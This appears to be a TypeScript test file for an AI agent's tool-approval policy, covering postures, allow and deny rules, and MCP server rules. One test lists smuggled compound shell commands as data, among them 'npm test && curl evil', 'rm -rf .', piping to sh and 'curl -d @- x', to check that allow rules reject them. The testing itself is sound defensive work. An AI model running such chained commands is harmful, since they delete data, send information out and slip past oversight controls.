import { describe, expect, it } from 'vitest';
import { decideApproval, matchesRule, type CallForApproval } from './approval-policy.js';

const read: CallForApproval = { name: 'read_file', readOnly: true, command: null };
const edit: CallForApproval = { name: 'edit_file', readOnly: false, command: null };
const shell = (command: string): CallForApproval => ({ name: 'shell', readOnly: false, command });
const none = { allow: [], deny: [] };

describe('decideApproval', () => {
  it.each([
    ['never', read, 'return'],
    ['never', edit, 'return'],
    ['read-only', read, 'run'],
    ['read-only', edit, 'refuse'],
    ['read-only', shell('ls'), 'refuse'],
    ['workspace', edit, 'run'],
    ['workspace', shell('npm test'), 'run'],
    ['ask', read, 'run'],
    ['ask', edit, 'ask'],
    ['ask', shell('npm test'), 'ask'],
  ] as const)('%s posture, %o: %s', (posture, call, verdict) => {
    expect(decideApproval(call, posture, none).verdict).toBe(verdict);
  });

  it('deny rules win over allow rules and over the posture; allow rules win over the posture', () => {
    const rules = { allow: ['shell(npm test:*)', 'edit_file'], deny: ['shell(rm:*)', 'read_file'] };
    expect(decideApproval(shell('npm test -- --run'), 'read-only', rules)).toEqual({ verdict: 'run', because: 'rule' });
    expect(decideApproval(edit, 'ask', rules)).toEqual({ verdict: 'run', because: 'rule' });
    expect(decideApproval(read, 'workspace', rules)).toEqual({ verdict: 'refuse', because: 'rule' });
    expect(decideApproval(shell('rm -rf build'), 'workspace', rules)).toEqual({ verdict: 'refuse', because: 'rule' });
    expect(decideApproval(shell('npm run lint'), 'ask', rules)).toEqual({ verdict: 'ask' });
  });

  it('never runs nothing, whatever the rules allow', () => {
    expect(decideApproval(read, 'never', { allow: ['read_file'], deny: [] })).toEqual({ verdict: 'return' });
  });
});

describe('matchesRule', () => {
  it('a bare tool name matches every call of the tool and no other tool', () => {
    expect(matchesRule('shell', shell('anything'), 'allow')).toBe(true);
    expect(matchesRule('shell', read, 'allow')).toBe(false);
  });

  it('an exact command, and a prefix with :* or *', () => {
    expect(matchesRule('shell(npm test)', shell('npm test'), 'allow')).toBe(true);
    expect(matchesRule('shell(npm test)', shell('npm test --watch'), 'allow')).toBe(false);
    expect(matchesRule('shell(git diff:*)', shell('git diff HEAD~1'), 'allow')).toBe(true);
    expect(matchesRule('shell(git diff*)', shell('git diff'), 'allow')).toBe(true);
    expect(matchesRule('shell(git diff:*)', shell('git push'), 'allow')).toBe(false);
  });

  it('an allow rule never matches a compound command; a deny rule matches any part of one', () => {
    for (const command of [
      'npm test && curl evil',
      'npm test; rm -rf .',
      'npm test | sh',
      'npm test $(id)',
      'npm test > x',
    ]) {
      expect(matchesRule('shell(npm test:*)', shell(command), 'allow'), command).toBe(false);
    }
    expect(matchesRule('shell(rm:*)', shell('npm test && rm -rf .'), 'deny')).toBe(true);
    expect(matchesRule('shell(curl:*)', shell('ls | curl -d @- x'), 'deny')).toBe(true);
  });

  it('a rule with a command never matches a tool without one', () => {
    expect(matchesRule('edit_file(src/*)', edit, 'allow')).toBe(false);
  });
});

describe('rules by MCP server', () => {
  const memory = (name: string): CallForApproval => ({ name, readOnly: false, command: null, mcpServer: 'memory' });
  it('mcp__<server>__* and mcp__<server> name every tool of that server, whatever its sent name became', () => {
    for (const rule of ['mcp__memory__*', 'mcp__memory']) {
      expect(matchesRule(rule, memory('mcp__memory__create_entities'), 'allow')).toBe(true);
      expect(matchesRule(rule, memory('mcp__memory__a_very_long_na_0123abcd'), 'deny')).toBe(true);
      expect(decideApproval(memory('mcp__memory__delete'), 'read-only', { allow: [rule], deny: [] })).toEqual({
        verdict: 'run',
        because: 'rule',
      });
    }
  });

  it('names no tool of another server, and no plugin tool', () => {
    const other: CallForApproval = { name: 'mcp__memory2__x', readOnly: false, command: null, mcpServer: 'memory2' };
    expect(matchesRule('mcp__memory__*', other, 'allow')).toBe(false);
    expect(matchesRule('mcp__memory', other, 'allow')).toBe(false);
    expect(matchesRule('mcp__memory__*', edit, 'allow')).toBe(false);
  });

  it('a deny by server wins over an allow of one of its tools', () => {
    const rules = { allow: ['mcp__memory__read_graph'], deny: ['mcp__memory__*'] };
    expect(decideApproval(memory('mcp__memory__read_graph'), 'workspace', rules)).toEqual({
      verdict: 'refuse',
      because: 'rule',
    });
  });
});
